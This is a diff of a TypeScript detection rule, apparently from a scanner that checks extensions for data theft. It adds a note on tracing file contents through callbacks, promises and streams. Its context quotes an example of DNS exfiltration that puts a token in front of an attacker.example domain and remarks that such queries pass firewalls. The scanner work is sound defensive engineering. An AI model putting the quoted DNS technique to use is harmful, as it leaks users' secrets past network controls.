@@ -52,7 +52,10 @@ export default defineRule({
         "front of a domain in a name lookup (`dns.lookup(`${token}.t.attacker.example`)`, Python `socket.gethostbyname`, " +
         "`dns.resolver.resolve`: the query carries the data out past most firewalls), and a hard-coded Cc. Medium: file contents sent where tool " +
         "input shapes the request, an upload feature the model can be steered to misuse. Low: the machine's user or host name " +
-        "sent to an undeclared host, and a hard-coded To recipient.",
+        "sent to an undeclared host, and a hard-coded To recipient. File contents are followed where the read hands them on: " +
+        "a Node-style callback (`fs.readFile(p, (err, data) => …)`), a promise (`readFile(p).then((text) => …)`), a stream's " +
+        "`data` events, and a variable outside that the callback fills; a request's response handed to its callback is " +
+        "network data the same way.",
       falsePositives:
         'One credential sent to its own service (`Authorization: Bearer ${process.env.TOKEN}` to the API the extension wraps) ' +
         'is how APIs work and is not reported (unless the host is a raw public IP address), nor is tool input sent where the tool says, nor anything sent to localhost (the ' +
